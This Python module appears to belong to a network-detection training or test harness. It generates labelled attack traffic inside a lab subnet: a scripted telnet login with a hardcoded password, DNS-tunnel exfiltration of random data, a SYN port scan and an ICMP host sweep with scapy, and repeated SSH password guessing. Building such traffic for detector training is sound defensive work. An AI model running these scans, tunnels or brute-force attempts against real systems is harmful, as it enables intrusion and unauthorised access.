"""Suspicious scenarios a trainer (or a test) switches on; each runs once from one host."""

import base64
import os
import subprocess
import time

from scapy.layers.inet import ICMP, IP, TCP
from scapy.layers.l2 import Ether
from scapy.sendrecv import sendp

from . import dns
from .catalog import SCENARIOS  # noqa: F401  (re-exported for callers)
from .ssh import CLIENT_OPTS

SCAN_PORTS = range(1, 301)
GUESSES = 25


def telnet_login(ctx):
    """Log in to the server with the real telnet client, typing like a person."""
    ctx.ready.set()
    start = time.time()
    proc = subprocess.Popen(["telnet", ctx.peers["srv"][0], "23"], stdin=subprocess.PIPE,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for line in ("admin", "Sw1tch!2024", "show running-config", "exit"):
            if not ctx.pause(ctx.rng.uniform(0.4, 1.0)):
                break
            proc.stdin.write(line.encode() + b"\r\n")
            proc.stdin.flush()
        proc.stdin.close()
        ok = proc.wait(timeout=15) == 0
    except (BrokenPipeError, subprocess.TimeoutExpired):
        proc.kill()
        proc.wait()
        ok = False
    ctx.ledger.session("telnet", ctx.ip, ctx.peers["srv"][0], 23, ok=ok, start=start)


def dns_tunnel(ctx):
    """Exfiltrate a seeded blob as base32 labels, asking for TXT records (the downstream)."""
    ctx.ready.set()
    blob = base64.b32encode(ctx.rng.randbytes(1500)).decode().rstrip("=").lower()
    for i in range(0, len(blob), 50):
        if not ctx.pause(ctx.rng.uniform(0.02, 0.08)):
            return
        dns.ask(ctx, "dns-tunnel", f"{blob[i:i + 50]}.{i // 50}.{dns.TUNNEL_ZONE}", "TXT")


def port_scan(ctx):
    """SYN-scan the server's low ports from one source port, as nmap does."""
    ctx.ready.set()
    srv_ip, srv_mac = ctx.peers["srv"]
    sport = 40000 + ctx.rng.randrange(20000)
    pkts = [Ether(src=ctx.mac, dst=srv_mac) / IP(src=ctx.ip, dst=srv_ip)
            / TCP(sport=sport, dport=port, flags="S", seq=ctx.rng.randrange(1 << 32))
            for port in SCAN_PORTS]
    # One burst, as a scanner does: it also keeps the scan inside one flow file for detection.
    sendp(pkts, iface=ctx.iface, verbose=False)
    for pkt in pkts:
        ctx.ledger.packet("port-scan", pkt)


def host_sweep(ctx):
    """Ping every address of the /24 once (broadcast frames: live hosts answer, none are missed)."""
    ctx.ready.set()
    ident = ctx.rng.randrange(65536)
    pkts = [Ether(src=ctx.mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=ctx.ip, dst=f"10.0.0.{last}")
            / ICMP(type=8, id=ident, seq=last) / (b"\x00" * 32)
            for last in range(1, 255) if f"10.0.0.{last}" != ctx.ip]
    sendp(pkts, iface=ctx.iface, verbose=False)
    for pkt in pkts:
        ctx.ledger.packet("host-sweep", pkt)


def ssh_guessing(ctx):
    """Try passwords for 'admin' over and over, each guess its own connection."""
    ctx.ready.set()
    askpass = os.path.join(ctx.run_dir, "ssh", "askpass")
    with open(askpass, "w") as f:
        f.write("#!/bin/sh\necho 'guess-$$'\n")
    os.chmod(askpass, 0o755)
    env = dict(os.environ, SSH_ASKPASS=askpass, SSH_ASKPASS_REQUIRE="force", DISPLAY=":0")
    opts = [o if o != "BatchMode=yes" else "BatchMode=no" for o in CLIENT_OPTS]
    for _ in range(GUESSES):
        if not ctx.pause(ctx.rng.uniform(0.02, 0.1)):
            return
        done = subprocess.run(["ssh", *opts, "-o", "PreferredAuthentications=password",
                               "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
                               f"admin@{ctx.peers['srv'][0]}", "true"],
                              env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
        # A guess counts when the server refused it, i.e. the password really went over the wire.
        ctx.ledger.session("ssh-guessing", ctx.ip, ctx.peers["srv"][0], 22,
                           ok=b"Permission denied" in done.stderr)
